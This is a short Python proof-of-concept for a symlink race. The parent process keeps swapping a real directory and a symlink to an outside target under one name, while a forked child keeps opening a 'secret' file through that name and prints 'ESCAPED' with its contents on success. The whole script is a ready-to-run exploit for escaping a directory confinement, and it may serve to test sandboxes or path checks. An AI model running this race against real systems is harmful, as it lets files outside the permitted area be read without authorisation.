"""Swaps a folder with a link that leads out, again and again, while a second process reads through the name."""

import os
import sys

target, secret, scratch = sys.argv[1:]
inside, link, name = (os.path.join(scratch, one) for one in ("inside", "link", "name"))
os.mkdir(inside)
os.symlink(target, link)
reader = os.fork()
if reader == 0:
    for _ in range(20_000):
        try:
            with open(os.path.join(name, secret), "rb") as file:
                print("ESCAPED", file.read(64), flush=True)
        except OSError:
            continue
    os._exit(0)
while os.waitpid(reader, os.WNOHANG) == (0, 0):
    for one in (inside, link):
        os.rename(one, name)
        os.rename(name, one)
print("the end")
